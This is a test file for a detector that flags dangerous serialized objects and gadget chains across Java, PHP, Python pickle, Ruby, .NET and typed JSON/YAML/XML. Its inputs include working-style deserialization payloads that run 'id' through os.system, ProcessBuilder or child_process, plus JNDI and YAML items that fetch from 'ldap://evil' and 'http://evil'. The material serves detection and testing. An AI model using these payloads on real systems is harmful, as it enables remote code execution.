import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { deserializationVerdict as verdict } from '#sidecar/threats/text/deserialization-verdict.ts';
import { serializedBytes } from '#sidecar/threats/text/serialized-bytes.ts';
import { typeSlot } from '#sidecar/threats/text/typed-documents.ts';
import {
  base64,
  binaryFormatterStream,
  commonsCollectionsChain,
  javaStream,
  marshalHash,
  marshalObject,
  phpObject,
  pickleCall,
  pickleData,
  pickleProtocol0,
  plainJavaObject,
} from '#test/fixtures/serialization/serialized-objects.ts';

const gadgetOf = (value: string) => verdict(value)?.gadget;
const urlSafe = (text: string) => text.replaceAll('+', '-').replaceAll('/', '_').replace(/=+$/, '');

describe('deserializationVerdict: Java serialization', () => {
  const chain = javaStream(commonsCollectionsChain);
  const plain = javaStream(plainJavaObject);

  it('reads a stream by its magic and TC_ codes, naming the top class and the gadget chain', () => {
    expect(serializedBytes(chain)).toEqual({
      format: 'Java serialized object java.util.PriorityQueue',
      gadget: 'commons-collections4 TransformingComparator (ysoserial CommonsCollections2/4)',
    });
    expect(serializedBytes(plain)).toEqual({ format: 'Java serialized object com.example.shop.Cart' });
  });

  it('needs a TC_ code after the version', () => {
    expect(serializedBytes(Uint8Array.from([0xac, 0xed, 0x00, 0x05, 0x41, 0x42]))).toBeUndefined();
    expect(serializedBytes(Uint8Array.from([0xac, 0xed, 0x00, 0x04, 0x73, 0x72]))).toBeUndefined();
  });

  it('reads it in base64, URL-safe base64, gzip then base64, hex, and a form-decoded base64 (+ as space)', () => {
    const encoded = base64(chain);
    expect(encoded.startsWith('rO0AB')).toBe(true);
    for (const value of [encoded, urlSafe(encoded), `<===[JENKINS REMOTING CAPACITY]===>${encoded}`])
      expect(verdict(value)?.format, value).toBe('Java serialized object java.util.PriorityQueue, base64');
    const gzipped = base64(new Uint8Array(gzipSync(chain)));
    expect(gzipped.startsWith('H4sIA')).toBe(true);
    expect(verdict(gzipped)?.format).toBe('Java serialized object java.util.PriorityQueue, gzip, base64');
    expect(verdict(Buffer.from(chain).toString('hex'))?.format).toContain(', hex');
    expect(verdict(encoded.replaceAll('+', ' '))?.gadget).toContain('TransformingComparator');
    expect(verdict(base64(plain))).toEqual({
      format: 'Java serialized object com.example.shop.Cart, base64',
    });
  });

  it('leaves a token that merely starts with rO0AB, mid-token runs and ordinary gzip alone', () => {
    expect(verdict('rO0ABCDEFGHIJKLMNOP')).toBeUndefined();
    expect(verdict(`x${base64(chain)}`)).toBeUndefined();
    expect(verdict(base64(new Uint8Array(gzipSync('{"items":[1,2,3]}'))))).toBeUndefined();
  });
});

describe('deserializationVerdict: PHP serialize()', () => {
  const pending = `O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\u0000*\u0000events";${phpObject('Faker\\Generator', [])}s:8:"\u0000*\u0000event";s:2:"id";}`;

  it('names phpggc chains, in plain text, base64 and inside an array', () => {
    expect(gadgetOf(pending)).toBe('Laravel PendingBroadcast (phpggc Laravel/RCE)');
    expect(gadgetOf(base64(pending))).toBe('Laravel PendingBroadcast (phpggc Laravel/RCE)');
    const monolog = phpObject('Monolog\\Handler\\SyslogUdpHandler', [['socket', 'x']]);
    expect(gadgetOf(`a:2:{i:7;${monolog}i:7;i:7;}`)).toBe('Monolog (phpggc Monolog/RCE)');
    expect(gadgetOf(`C:31:"GuzzleHttp\\Cookie\\FileCookieJar":0:{}`)).toContain('Guzzle');
  });

  it("reports another class's object without a gadget, accepts O:+, and checks the length as PHP does", () => {
    expect(verdict(phpObject('App\\User', [['name', 'bob']]))).toEqual({
      format: 'PHP serialized object App\\User',
    });
    expect(verdict('O:+8:"stdClass":0:{}')?.format).toBe('PHP serialized object stdClass');
    expect(verdict('O:9:"stdClass":0:{}')).toBeUndefined();
  });

  it('leaves arrays and strings (a session) alone', () => {
    for (const value of [
      'a:1:{s:4:"user";s:5:"alice";}',
      's:3:"abc";',
      base64('a:1:{s:4:"user";s:5:"alice";}'),
    ])
      expect(verdict(value), value).toBeUndefined();
  });
});

describe('deserializationVerdict: pickle, Marshal, .NET', () => {
  it('names the command-running global of a pickle, and reports a pickle of data without one', () => {
    expect(gadgetOf(base64(pickleCall('posix', 'system', 'id')))).toBe('global posix.system called');
    expect(gadgetOf(base64(pickleCall('builtins', 'eval', '1')))).toBe('global builtins.eval called');
    expect(verdict(base64(pickleCall('collections', 'OrderedDict', '')))).toEqual({
      format: 'Python pickle (protocol 4) importing collections.OrderedDict, base64',
    });
    expect(serializedBytes(pickleData)).toEqual({ format: 'Python pickle (protocol 2)' });
    expect(gadgetOf(pickleProtocol0)).toBe('global posix.system called');
    expect(gadgetOf(base64(pickleProtocol0))).toBe('global posix.system called');
  });

  it('needs a pickle to reach STOP', () => {
    expect(serializedBytes(pickleCall('os', 'system', 'id').subarray(0, 20))).toBeUndefined();
  });

  it('reports Marshal only with a gadget: a Rails session cookie is ordinary', () => {
    expect(gadgetOf(base64(marshalObject('Gem::Requirement')))).toContain('Gem::Requirement');
    expect(gadgetOf(base64(marshalObject('ERB')))).toBe('ERB template (Rails)');
    expect(verdict(base64(marshalObject('Money')))).toBeUndefined();
    expect(verdict(`${base64(marshalHash)}--0123456789abcdef`)).toBeUndefined();
  });

  it('reads BinaryFormatter streams, and a ViewState only when it names a gadget', () => {
    const process = binaryFormatterStream('System', 'System.Diagnostics.Process');
    expect(base64(process).startsWith('AAEAAAD/////')).toBe(true);
    expect(gadgetOf(base64(process))).toBe('System.Diagnostics.Process start');
    expect(verdict(base64(binaryFormatterStream('MyApp', 'MyApp.Order')))).toEqual({
      format: '.NET BinaryFormatter stream, base64',
    });
    const los = Uint8Array.from([0xff, 0x01, 0x32, process.length, ...process]);
    expect(base64(los).startsWith('/wEy')).toBe(true);
    expect(verdict(base64(los))?.format).toBe('LosFormatter with a BinaryFormatter stream, base64');
    const pageState = Uint8Array.from([0xff, 0x01, 0x0f, 0x0f, 0x05, 0x0a, ...Buffer.from('-1234567890')]);
    expect(verdict(base64(pageState))).toBeUndefined();
    const textFormatting = Buffer.from('Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties');
    expect(gadgetOf(base64(Uint8Array.from([0xff, 0x01, 0x0f, ...textFormatting])))).toContain(
      'TextFormatting',
    );
  });
});

describe('deserializationVerdict: typed documents', () => {
  it.each([
    [
      '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil/a","autoCommit":true}',
      'JdbcRowSetImpl',
    ],
    ['{"\\u0040type":"com.sun.rowset.JdbcRowSetImpl"}'.replace('\\u0040', '@'), 'JdbcRowSetImpl'],
    ['["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://evil/a"}]', 'JdbcRowSetImpl'],
    [
      '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}',
      'ObjectDataProvider',
    ],
    [
      '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil/"]]]]',
      'ScriptEngineManager',
    ],
    ['!!python/object/apply:os.system ["id"]', 'os.system'],
    ['--- !ruby/object:Gem::Installer\ni: x', 'Gem::Installer'],
    [
      '<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"/></dynamic-proxy></sorted-set>',
      'EventHandler',
    ],
    [
      '<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></object></java>',
      'ProcessBuilder',
    ],
    ['{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}', 'immediately invoked'],
  ])('names the gadget of %s', (value, gadget) => {
    expect(gadgetOf(value)).toContain(gadget);
  });

  it('reports typed documents without a gadget at the lower level, and leaves ordinary type fields alone', () => {
    expect(verdict('!!python/object/new:collections.OrderedDict []')).toEqual({
      format: 'PyYAML python/object/new tag of collections.OrderedDict',
    });
    for (const value of [
      '{"$type":"MyApp.Models.Order, MyApp","id":7}',
      '{"@context":"https://schema.org","@type":"Person","name":"Ada"}',
      '["com.example.Money",{"amount":5}]',
      '!!str 12',
      'Great news!! see you there',
    ])
      expect(verdict(value), value).toBeUndefined();
  });

  it('reads a JSON leaf in a type slot by its path', () => {
    expect(typeSlot('json $.@type', 'com.sun.rowset.JdbcRowSetImpl')?.gadget).toContain('JdbcRowSetImpl');
    expect(typeSlot('json $.data[0]', 'com.sun.rowset.JdbcRowSetImpl')?.format).toBe(
      'Jackson polymorphic type',
    );
    expect(typeSlot('json $.$type', 'System.Diagnostics.Process, System')?.gadget).toContain('Process');
    expect(typeSlot('json $.$type', 'MyApp.Models.Order, MyApp')).toBeUndefined();
    expect(typeSlot('json $.tags[0]', 'JdbcRowSetImpl is a class')).toBeUndefined();
  });
});

describe('serializedBytes on hostile octets', () => {
  const openings = [
    [0xac, 0xed, 0x00, 0x05],
    [0x80, 0x04, 0x95],
    [0x80, 0x02],
    [0x04, 0x08],
    [0xff, 0x01, 0x32],
    [0x1f, 0x8b],
    [0x00, 0x01],
    [0x63],
  ];

  it('never throws on random octets after each format opening, and is deterministic', () => {
    fc.assert(
      fc.property(fc.constantFrom(...openings), fc.uint8Array({ maxLength: 300 }), (opening, rest) => {
        const bytes = Uint8Array.from([...opening, ...rest]);
        expect(serializedBytes(bytes)).toEqual(serializedBytes(bytes));
        expect(() => verdict(base64(bytes))).not.toThrow();
      }),
      { numRuns: 2000 },
    );
  });
});

describe('deserializationVerdict on values made to cost', () => {
  it('inflates only gzip with a plausible trailer, two a value, and still reads the other tokens after them', () => {
    const trailer = (i: number) =>
      base64(Uint8Array.from([0x1f, 0x8b, 8, 0, ...Array(10).fill(i % 256), 5, 0, 0, 0]));
    const openings = Array.from({ length: 4000 }, (_, i) => trailer(i)).join(',');
    const started = performance.now();
    expect(verdict(openings)).toBeUndefined();
    // 4000 inflates take seconds (about 0.5 ms each on a busy machine); two take about one.
    expect(performance.now() - started).toBeLessThan(400);
    const late = `${openings},${base64(javaStream(plainJavaObject))}`;
    expect(verdict(late)?.format).toBe('Java serialized object com.example.shop.Cart, base64');
    const gzipLate = `${trailer(1)},${trailer(2)},${base64(new Uint8Array(gzipSync(javaStream(plainJavaObject))))}`;
    expect(verdict(gzipLate)).toBeUndefined();
  });
});
